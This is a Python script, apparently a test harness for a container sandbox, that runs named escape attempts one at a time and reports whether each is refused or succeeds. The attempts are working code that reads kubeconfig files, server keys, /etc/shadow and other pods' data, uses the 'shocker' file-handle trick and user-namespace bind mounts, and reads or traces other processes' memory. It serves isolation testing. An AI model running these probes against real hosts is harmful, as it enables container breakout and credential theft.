"""A hostile program for a container: `python3 hostile_container.py ATTACK` prints what it got, or why it got nothing.

Standard library only, and no part of this package: it runs where nothing else is in reach. HOME_OF_ANOTHER is a folder
with `airflow.cfg`, `socket` and `cluster/` in it; VICTIM is a process of the server's user.
"""

from __future__ import annotations

import ctypes
import os
import socket
import stat
import sys
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

HOME = Path(os.environ.get("HOME_OF_ANOTHER", "/nowhere"))
SECRET, CLUSTER = HOME / "airflow.cfg", HOME / "cluster"
VICTIM = int(os.environ.get("VICTIM", "0"))
HERE, EMPTY_PATH, NEW_USER, NEW_MOUNTS, BIND = -100, 0x1000, 0x10000000, 0x20000, 4096
PTRACE_SEIZE, PIDFD_GETFD = 0x4206, 438
libc = ctypes.CDLL(None, use_errno=True)


class FileHandle(ctypes.Structure):
    _fields_ = (("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128))


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def call(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def by_file_handle() -> bytes:
    """As the program `shocker`, which left Docker's containers with the right that reads all files."""
    handle, mount = FileHandle(128), ctypes.c_int()
    call(libc.name_to_handle_at(HERE, bytes(SECRET), ctypes.byref(handle), ctypes.byref(mount), 0))
    place = os.open(".", os.O_RDONLY)
    return os.read(call(libc.open_by_handle_at(place, ctypes.byref(handle), os.O_RDONLY)), 100)


def by_link_of_a_handle() -> bytes:
    call(libc.linkat(os.open(SECRET, os.O_PATH), b"", HERE, b"stolen", EMPTY_PATH))
    return Path("stolen").read_bytes()


def by_hard_link() -> bytes:
    os.link(SECRET, "linked")
    return Path("linked").read_bytes()


def by_moving() -> bytes:
    SECRET.rename("moved")
    return Path("moved").read_bytes()


def by_truncating() -> None:
    os.truncate(SECRET, 0)


def by_a_user_namespace() -> bytes:
    call(libc.unshare(NEW_USER | NEW_MOUNTS))
    Path("bound").mkdir(exist_ok=True)
    call(libc.mount(bytes(HOME), b"bound", None, BIND, None))
    return Path("bound/airflow.cfg").read_bytes()


def by_shared_memory() -> bytes:
    return b"".join(path.read_bytes() for path in Path("/dev/shm").glob("canary*"))


def memory() -> int:
    own = ctypes.create_string_buffer(8)
    parts = [ctypes.byref(Part(address, 8)) for address in (ctypes.addressof(own), int(os.environ["ADDRESS"]))]
    return call(libc.process_vm_readv(VICTIM, parts[0], 1, parts[1], 1, 0))


def abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0{HOME}")
    return "connected"


def named_socket() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(str(HOME / "socket"))
    return "connected"


def mount() -> None:
    call(libc.mount(b"none", b".", b"tmpfs", 0, None))


def device(kind: int, *number: int) -> bytes:
    os.mknod("device", kind | 0o666, os.makedev(*number))
    return os.read(os.open("device", os.O_RDONLY), 16)


def terminals() -> list[int]:
    return [os.open(path, os.O_RDWR | os.O_NOCTTY) for path in (*Path("/dev/pts").iterdir(), Path("/dev/ptmx"))]


def names(folder: str | Path) -> list[str]:
    return [path.name for path in Path(folder).iterdir()]


def append(path: Path) -> None:
    path.open("a").close()


def of_another_pod(path: str) -> bytes:
    return (Path(os.environ["OTHER_POD"]) / path).read_bytes()


ATTACKS: dict[str, Callable[[], object]] = {
    "read the kubeconfig": (CLUSTER / "kubeconfig").read_bytes,
    "read the key of the server": (CLUSTER / "server.pem").read_bytes,
    "write the kubeconfig": lambda: append(CLUSTER / "kubeconfig"),
    "read a file of Airflow": SECRET.read_bytes,
    "read it through a handle of its path": lambda: Path(f"/proc/self/fd/{os.open(SECRET, os.O_PATH)}").read_bytes(),
    "read it through a handle of its inode": by_file_handle,
    "link it": by_hard_link,
    "link a handle of it": by_link_of_a_handle,
    "move it": by_moving,
    "truncate it": by_truncating,
    "bind it in a user namespace": by_a_user_namespace,
    "list other pods": lambda: names(CLUSTER / "pods"),
    "read a file of another pod": lambda: of_another_pod("files/base/result"),
    "read the log of another pod": lambda: of_another_pod("containers/base/0/log"),
    "read the variables of another pod": lambda: of_another_pod("containers/base/0/container.json"),
    "stop another pod": lambda: append(Path(os.environ["OTHER_POD"]) / "containers/base/0/stop.json"),
    "write its own specification": lambda: append(Path("../../containers/base/0/container.json")),
    "list /root": lambda: names("/root"),
    "list /home": lambda: names("/home"),
    "list /tmp": lambda: names("/tmp"),
    "list /": lambda: names("/"),
    "read /etc/shadow": Path("/etc/shadow").read_bytes,
    "read the log of the kernel": lambda: os.read(os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK), 8192),
    "write to the system": lambda: append(Path("/usr/lib/hostile")),
    "write to the interpreter": lambda: append(Path(os.__file__)),
    "write to the image": lambda: append(Path("include/hello.py")),
    "add to the image": lambda: append(Path("include/hostile.py")),
    "remove from the image": lambda: Path("include/hello.py").unlink(),
    "set how cores are dumped": lambda: append(Path("/proc/sys/kernel/core_pattern")),
    "read the environment of a process": Path(f"/proc/{VICTIM}/environ").read_bytes,
    "open the memory of a process": lambda: os.open(f"/proc/{VICTIM}/mem", os.O_RDONLY),
    "read the memory of a process": memory,
    "trace a process": lambda: call(libc.ptrace(PTRACE_SEIZE, VICTIM, None, None)),
    "enter the folder of a process": lambda: names(f"/proc/{VICTIM}/cwd"),
    "enter the root of a process": lambda: names(f"/proc/{VICTIM}/root"),
    "take a file of a process": lambda: call(libc.syscall(PIDFD_GETFD, os.pidfd_open(VICTIM), 0, 0)),
    "become another user": lambda: os.setresuid(1, 1, 1),
    "take root's group": lambda: os.setgroups([0]),
    "mount": mount,
    "unmount": lambda: call(libc.umount2(b"/proc", 2)),
    "change the root folder": lambda: os.chroot("."),
    "make a device": lambda: device(stat.S_IFCHR, 1, 5),
    "make a disk": lambda: device(stat.S_IFBLK, 254, 0),
    "open terminals": terminals,
    "listen to the network": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    "end a process": lambda: os.kill(VICTIM, 0),
    "connect to an abstract socket": abstract_socket,
}
AS_ANOTHER_USER: dict[str, Callable[[], object]] = {
    "become root": lambda: os.setresuid(0, 0, 0),
    "change the mode of a file": lambda: SECRET.chmod(0o666),
    "read shared memory": lambda: by_shared_memory() or 1 / 0,
    "read the command line of a process": Path(f"/proc/{VICTIM}/cmdline").read_bytes,
    "slow a process down": lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19),
    "connect to a socket": named_socket,
}
"""What only another user is kept from."""


if __name__ == "__main__":
    try:
        got = {**ATTACKS, **AS_ANOTHER_USER}[sys.argv[1]]()
    except (OSError, ZeroDivisionError) as error:
        print(f"refused: {type(error).__name__}: {error}")
    else:
        print(f"succeeded: {got!r}"[:200])
